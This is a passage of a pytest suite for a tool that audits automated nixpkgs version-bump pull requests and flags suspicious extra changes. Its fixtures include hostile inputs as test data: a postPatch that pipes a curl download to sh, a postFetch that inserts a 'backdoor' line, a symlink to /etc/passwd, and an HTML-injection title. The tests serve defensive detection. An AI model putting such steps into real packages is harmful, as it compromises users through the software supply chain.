                   GIZMO: ("version-bump", "0.5.0", "0.6.0", [])}
    assert report.ok and report.findings == ()
    # two bumps of one package in one pull request chain up: 1.1.0 -> 1.2.0 -> 1.3.0 read as 1.1.0 -> 1.3.0
    twice = only(audit(nixpkgs, keyring, sequence[4], sequence[8]), WIDGET)
    assert "title-mismatch" not in codes(twice)


def test_sequence_text_and_markdown(nixpkgs, sequence, tmp_path):
    res = cli(nixpkgs, tmp_path, sequence[4], sequence[5], fmt="text")
    assert res.code == 0, res.describe()
    assert "bump-with-changes" in res.stdout and "postPatch: added: '' curl -sL https://example.net/setup.sh | sh ''" in res.stdout
    md = cli(nixpkgs, tmp_path, sequence[4], sequence[5], fmt="markdown")
    assert md.code == 0
    assert md.stdout.startswith("## ⚠️ commitguard audit-bump: 1 of 1 package needs a look\n")
    assert "| `postPatch` | added: '' curl -sL https://example.net/setup.sh &#124; sh '' |" in md.stdout
    pure = cli(nixpkgs, tmp_path, sequence[0], sequence[1], fmt="markdown")
    assert pure.stdout.startswith("## ✅ commitguard audit-bump: the package: only version and hash changes")


# --------------------------------------------------------------------------- other shapes bots bump


def sri(label: str) -> str:
    return "sha256-" + base64.b64encode(hashlib.sha256(label.encode()).digest()).decode()


def fill(name: str, **values: str) -> str:
    text = (DATA / f"{name}.nix").read_text()
    for key, value in values.items():
        text = text.replace(f"@{key.upper()}@", value)
    return text


def rusty(version: str, *, ref: str = "tag", patch: str = "1" * 40, patch_hash: str = "patch 1") -> str:
    return fill("rusty", version=version, ref=ref, hash=sri(f"rusty {version}"), hash2=sri(f"rusty vendor {version}"),
                patchrev=patch, patchhash=sri(patch_hash))


def webthing(date: str, rev: str) -> str:
    return fill("unstable", version=date, rev=rev, hash=sri(f"webthing {rev}"), hash2=sri(f"webthing deps {rev}"))


def prebuilt(version: str) -> str:
    return fill("prebuilt", version=version, hash=sri(f"prebuilt x86_64 {version}"),
                hash2=sri(f"prebuilt aarch64 {version}"))


RUSTY, WEBTHING, PREBUILT = ("pkgs/by-name/ru/rusty/package.nix", "pkgs/by-name/we/webthing/package.nix",
                             "pkgs/by-name/pr/prebuilt/package.nix")


@pytest.fixture(scope="module")
def shapes(tmp_path_factory):
    """No upstream here: what is compared is the expression alone."""
    class Shapes(Nixpkgs):
        def __init__(self, root: Path):
            self.repo = Repo(root / "nixpkgs", root)
            self.path = self.repo.path
            self.write({RUSTY: rusty("0.4.1", ref="rev"), WEBTHING: webthing("2024-05-01", "a" * 40),
                        "pkgs/by-name/we/webthing/update.sh": "#!/bin/sh\n", PREBUILT: prebuilt("3.2.1")})
            self.base = self.commit("init")

    return Shapes(tmp_path_factory.mktemp("bump-shapes"))


SHAPES = [
    ("rev becomes tag in a bump", "rusty: 0.4.1 -> 0.4.2", {RUSTY: rusty("0.4.2")}, RUSTY,
     "version-bump", ["version", "src.hash", "cargoHash"], []),
    ("patch from another commit", "rusty: 0.4.1 -> 0.4.2", {RUSTY: rusty("0.4.2", patch="2" * 40, patch_hash="patch 2")},
     RUSTY, "bump-with-changes", ["version", "src.hash", "patches", "cargoHash"], ["extra-changes"]),
    ("patch hash only", "rusty: 0.4.1 -> 0.4.2", {RUSTY: rusty("0.4.2", patch_hash="patch 2")},
     RUSTY, "bump-with-changes", ["version", "src.hash", "patches", "cargoHash"], ["extra-changes"]),
    ("unstable bump", "webthing: 0-unstable-2024-05-01 -> 0-unstable-2024-06-01",
     {WEBTHING: webthing("2024-06-01", "b" * 40)}, WEBTHING,
     "version-bump", ["version", "src.rev", "src.hash", "pnpmDeps.hash"], []),
    # issue 18: an unstable package's rev is its version; two commits on one day keep the version string
    ("new rev, same version", "webthing: update", {WEBTHING: webthing("2024-05-01", "b" * 40)}, WEBTHING,
     "version-bump", ["src.rev", "src.hash", "pnpmDeps.hash"], []),
    ("per-platform binaries", "prebuilt: 3.2.1 -> 3.3.0", {PREBUILT: prebuilt("3.3.0")}, PREBUILT,
     "version-bump", ["version", "src.hash", "let.srcs.aarch64-linux.hash"], []),
    ("install step changed", "prebuilt: 3.2.1 -> 3.3.0",
     {PREBUILT: prebuilt("3.3.0").replace("    runHook postInstall\n", "    cp ${./extra} $out/bin/extra\n    runHook postInstall\n"),
      "pkgs/by-name/pr/prebuilt/extra": "#!/bin/sh\n"}, PREBUILT,
     "bump-with-changes", ["version", "src.hash", "let.srcs.aarch64-linux.hash", "installPhase", "file:extra"],
     ["extra-changes"]),
]


@pytest.mark.parametrize("case", SHAPES, ids=[c[0] for c in SHAPES])
def test_other_shapes(shapes, case):
    _, message, files, path, kind, changes, expected = case
    head = shapes.change(shapes.base, message, files)
    repo = pygit2.Repository(str(shapes.path))
    report = audit_bump(repo, shapes.base, head, keyring=empty_keyring())
    p = only(report, path)
    assert (p.kind, list(p.changes), codes(p)) == (kind, changes, expected), (p.details, p.notes)
    if "patches" in changes:
        assert p.details["patches"].startswith(
            "fetchpatch now fetches" if "another commit" in case[0] else "the hash of https://github.com/ferris")
    if "installPhase" in changes:
        assert p.details["installPhase"] == "+ cp ${./extra} $out/bin/extra"


# --------------------------------------------------------------------------- the pieces


def test_normalised_syntax_ignores_formatting_comments_and_literals():
    a = ExpressionSummary(b'{ a }: { version = "1.2.3"; src = f { url = "x/a-1.2.3.tgz"; hash = "sha256-'
                          + b"A" * 43 + b'="; }; }', "1.2.3")
    b = ExpressionSummary(b'{ a }:\n# a comment\n{\n  version = "1.3.0";\n  src = f {\n    url = "x/a-1.3.0.tgz";\n'
                          b'    hash = "sha256-' + b"B" * 43 + b'=";\n  };\n}\n', "1.3.0")
    assert {k: v.tokens for k, v in a.entries.items()} == {k: v.tokens for k, v in b.entries.items()}
    assert a.entries["src.hash"].hashes != b.entries["src.hash"].hashes
    # a version is not replaced inside a longer number: -DFOO=1 becoming -DFOO=2 stays visible
    c = ExpressionSummary(b'{ flags = [ "-DLEVEL=12" ]; version = "1.2"; }', "1.2")
    d = ExpressionSummary(b'{ flags = [ "-DLEVEL=13" ]; version = "1.3"; }', "1.3")
    assert c.entries["flags"].tokens != d.entries["flags"].tokens


def test_claims_bots_and_fail_on():
    assert parse_claim("python312Packages.requests: 2.31.0 -> 2.32.3", "t").name == "python312Packages.requests"
    assert parse_claim("widget: init at 1.0", "t") is None
    assert parse_claim("[Backport release-24.11] widget: 1.0 -> 1.1", "t").text() == "widget: 1.0 -> 1.1"
    assert detect_bot("r-ryantm", None, []).name == "r-ryantm"
    assert detect_bot("dependabot[bot]", None, []).name == "dependabot[bot]"
    assert detect_bot("alice", "auto-update/widget", []).reason == "branch auto-update/widget"
    assert detect_bot("alice", "update/widget", []).name == "update"
    assert detect_bot("alice", "widget-fix", [("Alice", "alice@example.org")]) is None
    assert detect_bot(None, None, [("github-actions[bot]", "41898282+github-actions[bot]@users.noreply.github.com")]
                      ).name == "github-actions[bot]"
    assert parse_fail_on(None) == FailOn()
    policy = parse_fail_on("bump-with-changes, title-mismatch ,medium")
    assert (policy.kinds, policy.codes, policy.severities) == (
        {"bump-with-changes"}, {"title-mismatch"}, {"medium"})
    for bad in ("nonsense", ",", "high,nonsense"):
        with pytest.raises(CommitguardError):
            parse_fail_on(bad)


def test_bad_arguments_exit_2(nixpkgs, tmp_path):
    for args in (["--fail-on", "nonsense"], ["--base", "no-such-rev"], ["--comment"],
                 ["--upstream-mirror", str(tmp_path / "missing")]):
        argv = ["audit-bump", "--repo", nixpkgs.path, "--base", nixpkgs.base, "--head", nixpkgs.base, *args]
        res = run_cli(argv, scratch=tmp_path)
        assert res.code == 2 and res.stderr.startswith("commitguard: error: "), res.describe()
        assert len(res.stderr.strip().splitlines()) == 1
    res = run_cli(["audit-bump", "--repo", nixpkgs.path, "--base", nixpkgs.base, "--head", nixpkgs.base,
                   "--format", "sarif"], scratch=tmp_path)
    assert res.code == 2 and "--format sarif is not available for audit-bump" in res.stderr


def test_hostile_package_directory(nixpkgs, keyring, tmp_path):
    """A symlink posing as hashes.json, JSON nested past any parser's depth, an unparsable expression."""
    repo = nixpkgs.repo
    repo.git("checkout", "-q", "--detach", nixpkgs.base)
    hostile = nixpkgs.path / "pkgs" / "by-name" / "ho" / "hostile"
    hostile.mkdir(parents=True)
    (hostile / "package.nix").write_text(
        '{ lib, stdenv }:\nlet s = lib.importJSON ./hashes.json; in\nstdenv.mkDerivation { pname = "h"; '
        'version = s.version; src = ./.; }\n')
    os.symlink("/etc/passwd", hostile / "hashes.json")
    (hostile / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    base = nixpkgs.commit("hostile: init", author={"GIT_AUTHOR_NAME": "Mallory", "GIT_AUTHOR_EMAIL": "m@example.org"})
    (hostile / "package.nix").write_text("{ lib, stdenv }: stdenv.mkDerivation { ((( \n")
    (hostile / "deep.json").write_text("[" * 100_001 + "]" * 100_001)
    head = nixpkgs.commit("hostile: 1 -> 2", author={"GIT_AUTHOR_NAME": "Mallory", "GIT_AUTHOR_EMAIL": "m@example.org"})
    p = only(audit(nixpkgs, keyring, base, head), "pkgs/by-name/ho/hostile/package.nix")
    # issue 18: neither side's version can be read, so whether this is a bump cannot be told: unknown, with why
    assert p.kind == "unknown" and "file:deep.json" in p.changes
    assert p.reason.startswith("the old version cannot be read statically (version: ./hashes.json is not a file)")
    res = cli(nixpkgs, tmp_path, base, head)
    # medium findings only (the default --fail-on is high): exit 0, and the symlink was not followed
    assert res.code == 0, res.describe()
    [package] = [p for p in res.json["packages"] if p["path"] == "pkgs/by-name/ho/hostile/package.nix"]
    assert res.json["ok"] is True and package["kind"] == "unknown", res.describe()
    assert package["reason"] == p.reason
    # the title's versions are not checked against versions nobody could read, and no "? -> ?" is printed
    assert [f["code"] for f in package["findings"]] == ["extra-changes"], package["findings"]
    assert any(n.endswith("'s 'hostile: 1 -> 2' not checked: neither version can be read statically")
               for n in package["notes"]), package["notes"]
    assert "old: version: ./hashes.json is not a file" in package["notes"], package["notes"]


# --------------------------------------------------------------------------- GitHub mode


class BumpForge(FakeGitHub):
    """One repository's pull requests and issue comments, with GitHub's field names."""

    def __init__(self, slug: str):
        super().__init__()
        self.slug = slug
        self.pulls: dict[int, dict] = {}
        self.comments: dict[int, list[dict]] = {}

    def user(self, login: str) -> dict:
        return account_json(self.base_url, login, 1000 + sum(map(ord, login)), kind="Bot" if "[bot]" in login else "User")

    def open_pull(self, number: int, *, base: str, head: str, author: str, title: str, branch: str) -> None:
        repo = {"id": 42, "name": self.slug.split("/")[1], "full_name": self.slug, "private": False,
                "owner": self.user(self.slug.split("/")[0]), "url": f"{self.base_url}/repos/{self.slug}"}
        self.pulls[number] = {
            "url": f"{self.base_url}/repos/{self.slug}/pulls/{number}", "id": 5000 + number, "number": number,
            "state": "open", "title": title, "user": self.user(author), "body": "Semi-automatic update",
            "issue_url": f"{self.base_url}/repos/{self.slug}/issues/{number}",
            "comments_url": f"{self.base_url}/repos/{self.slug}/issues/{number}/comments",
            "head": {"label": f"{author}:{branch}", "ref": branch, "sha": head, "user": self.user(author), "repo": repo},
            "base": {"label": "nixos:master", "ref": "master", "sha": base, "user": self.user("nixos"), "repo": repo},
            "changed_files": 1, "commits": 1,
        }
        self.comments.setdefault(number, [])

    def add_comment(self, number: int, login: str, body: str) -> dict:
        cid = 90000 + sum(len(v) for v in self.comments.values()) + 1
        comment = {"id": cid, "node_id": f"IC_{cid}", "body": body, "user": self.user(login),
                   "url": f"{self.base_url}/repos/{self.slug}/issues/comments/{cid}",
                   "html_url": f"https://github.com/{self.slug}/pull/{number}#issuecomment-{cid}",
                   "issue_url": f"{self.base_url}/repos/{self.slug}/issues/{number}",
                   "created_at": "2025-01-01T00:00:00Z", "updated_at": "2025-01-01T00:00:00Z"}
        self.comments[number].append(comment)
        return comment

    def get(self, path: str, query: dict[str, str], login: str | None):
        pulls = f"/repos/{self.slug}/pulls/"
        issues = f"/repos/{self.slug}/issues/"
        if path.startswith(pulls) and path[len(pulls):].isdigit() and int(path[len(pulls):]) in self.pulls:
            return 200, self.pulls[int(path[len(pulls):])]
        if path.startswith(issues) and path.endswith("/comments"):
            number = path[len(issues):-len("/comments")]
            if number.isdigit() and int(number) in self.comments:
                return 200, self.comments[int(number)]
        if path == "/user":
            return (200, self.user(login)) if login else (401, {"message": "Requires authentication"})
        return 404, {"message": "Not Found"}

    def post(self, path: str, data: dict, login: str | None):
        issues = f"/repos/{self.slug}/issues/"
        if login is None:
            return 401, {"message": "Requires authentication"}
        if path.startswith(issues) and path.endswith("/comments"):
            number = path[len(issues):-len("/comments")]
            if number.isdigit() and int(number) in self.comments:
                return 201, self.add_comment(int(number), login, data.get("body", ""))
        return 404, {"message": "Not Found"}

    def patch(self, path: str, data: dict, login: str | None):
        prefix = f"/repos/{self.slug}/issues/comments/"
        if login is None:
            return 401, {"message": "Requires authentication"}
        if path.startswith(prefix) and path[len(prefix):].isdigit():
            cid = int(path[len(prefix):])
            for comments in self.comments.values():
                for comment in comments:
                    if comment["id"] == cid:
                        if comment["user"]["login"] != login:
                            return 403, {"message": "You cannot edit this comment"}
                        comment["body"] = data.get("body", "")
                        comment["updated_at"] = "2025-01-02T00:00:00Z"
                        return 200, comment
        return 404, {"message": "Not Found"}


@pytest.fixture
def api():
    yield from serving(BumpForge("nixos/nixpkgs"))


def test_github_pull_request_comment_is_posted_once_and_updated(nixpkgs, api, tmp_path):
    head = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.1.0", {WIDGET: nixpkgs.widget("1.1.0")})
    api.open_pull(7, base=nixpkgs.base, head=head, author="r-ryantm", title="widget: 1.0.0 -> 1.1.0",
                  branch="auto-update/widget")
    # someone else's comment carrying the same marker is never the one updated
    api.add_comment(7, "mallory", f"{COMMENT_MARKER}\nall fine, merge it")
    api.tokens["token-bot"] = "commitguard-bot"
    env = {"GITHUB_API_URL": api.base_url, "GITHUB_TOKEN": "token-bot", "GITHUB_ACTIONS": "false",
           "GITHUB_EVENT_PATH": "", "GITHUB_STEP_SUMMARY": ""}
    argv = ["audit-bump", "--github", "nixos/nixpkgs", "--pr", "7", "--repo", nixpkgs.path, "--keyring",
            nixpkgs.up.keyring, "--upstream-mirror", nixpkgs.up.mirror, "--format", "json", "--comment"]
    first = run_cli(argv, scratch=tmp_path, env=env)
    assert first.code == 0, first.describe()
    doc = first.json
    assert (doc["pull_request"], doc["title"], doc["author"], doc["branch"]) == (
        7, "widget: 1.0.0 -> 1.1.0", "r-ryantm", "auto-update/widget")
    assert doc["bot"] == {"name": "r-ryantm", "reason": "pull request opened by r-ryantm"}
    assert doc["repository"] == "github.com/nixos/nixpkgs"
    (p,) = doc["packages"]
    assert (p["kind"], p["findings"]) == ("version-bump", [])
    ours = [c for c in api.comments[7] if c["user"]["login"] == "commitguard-bot"]
    assert len(ours) == 1 and ours[0]["body"].startswith(COMMENT_MARKER + "\n## ✅ commitguard audit-bump")

    # the bot force-pushes a bump that also moves the source: the same comment is updated
    moved = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.1.0",
                           {WIDGET: nixpkgs.widget("1.1.0").replace('owner = "acme";', 'owner = "acme-fork";')})
    api.pulls[7]["head"]["sha"] = moved
    second = run_cli(argv, scratch=tmp_path, env=env)
    assert second.code == 1, second.describe()
    ours = [c for c in api.comments[7] if c["user"]["login"] == "commitguard-bot"]
    assert len(ours) == 1 and len(api.comments[7]) == 2
    assert ours[0]["body"].startswith(COMMENT_MARKER + "\n## ❌ commitguard audit-bump: 1 of 1 package needs a look")
    assert "`source-origin-changed`" in ours[0]["body"]
    assert api.comments[7][0]["body"] == f"{COMMENT_MARKER}\nall fine, merge it"
    assert ("PATCH", f"/repos/nixos/nixpkgs/issues/comments/{ours[0]['id']}") in api.requests


def test_github_title_is_escaped_in_the_comment(nixpkgs, api, tmp_path):
    head = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.1.0", {WIDGET: nixpkgs.widget("1.1.0")},
                          author={"GIT_AUTHOR_NAME": "Mallory", "GIT_AUTHOR_EMAIL": "mallory@example.org"})
    api.open_pull(8, base=nixpkgs.base, head=head, author="mallory", title="widget: 1.0.0 -> 9.9 @nixos/security <img src=x>",
                  branch="widget-bump")
    api.tokens["token-bot"] = "commitguard-bot"
    env = {"GITHUB_API_URL": api.base_url, "GITHUB_TOKEN": "token-bot", "GITHUB_ACTIONS": "false",
           "GITHUB_EVENT_PATH": "", "GITHUB_STEP_SUMMARY": ""}
    res = run_cli(["audit-bump", "--github", "nixos/nixpkgs", "--pr", "8", "--repo", nixpkgs.path,
                   "--upstream-mirror", nixpkgs.up.mirror, "--format", "markdown", "--comment"],
                  scratch=tmp_path, env=env)
    assert res.code == 0, res.describe()
    body = api.comments[8][0]["body"]
    assert "@nixos" not in body and "<img" not in body
    assert "&lt;img src=x>" in body and "Opened by mallory" in body


# --------------------------------------------------------------------------- hash-altering arguments (issue 14, item 2)


@pytest.mark.parametrize("added", [
    '    postFetch = "echo backdoor >> $out/src/widget.c";\n',
    "    leaveDotGit = true;\n",
    "    deepClone = true;\n",
    "    stripRoot = false;\n",
])
def test_an_added_hash_altering_argument_is_high_and_the_wrong_hash_is_unbound(nixpkgs, tmp_path, added):
    """A bump pinning a hash that is not the signed tree's, excused by an argument the PR adds:
    never verified, never exit 0."""
    wrong = nixpkgs.up.nar["widget 1.0.0"]  # not 1.1.0's tree
    widget = template("widget", "1.1.0", wrong).replace("    hash = ", added + "    hash = ", 1)
    assert added in widget
    head = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.1.0", {WIDGET: widget})
    res = cli(nixpkgs, tmp_path, nixpkgs.base, head)
    assert res.code == 1, res.describe()
    assert res.json["ok"] is False
    (p,) = res.json["packages"]
    assert p["upstream"]["new"]["status"] == "unbound"
    assert p["upstream"]["new"]["key"] == nixpkgs.up.keys["acme"]
    found = [(f["severity"], f["code"]) for f in p["findings"]]
    assert ("high", "hash-altering-argument-added") in found
    assert ("medium", "upstream-hash-unbound") in found
    name = added.split("=")[0].strip()
    assert any(f["code"] == "hash-altering-argument-added" and f"src now sets {name} = " in f["message"]
               for f in p["findings"])


def test_a_kept_hash_altering_argument_is_not_reported_as_added(nixpkgs, keyring):
    old = template("widget", "1.0.0", nixpkgs.up.nar["widget 1.0.0"]).replace(
        "    hash = ", '    postFetch = "true";\n    hash = ', 1)
    new = template("widget", "1.1.0", nixpkgs.up.nar["widget 1.1.0"]).replace(
        "    hash = ", '    postFetch = "true";\n    hash = ', 1)
    base = nixpkgs.change(nixpkgs.base, "widget: postFetch", {WIDGET: old}, author={"GIT_AUTHOR_NAME": "Alice",
                          "GIT_AUTHOR_EMAIL": "alice@example.org"})
    head = nixpkgs.change(base, "widget: 1.0.0 -> 1.1.0", {WIDGET: new})
    p = only(audit(nixpkgs, keyring, base, head), WIDGET)
    assert "hash-altering-argument-added" not in codes(p)
    # the right hash is the signed tree's: bound, whatever postFetch says
    assert p.upstream_new.status == "verified", p.upstream_new.reason
    changed = new.replace('postFetch = "true"', 'postFetch = "rm -r $out/src"')
    head2 = nixpkgs.change(base, "widget: 1.0.0 -> 1.1.0", {WIDGET: changed})
    p2 = only(audit(nixpkgs, keyring, base, head2), WIDGET)
    assert [f.code for f in p2.findings if f.severity == "high"] == ["hash-altering-argument-added"]
    assert "src changes postFetch (true -> rm -r $out/src)" in p2.findings[0].message
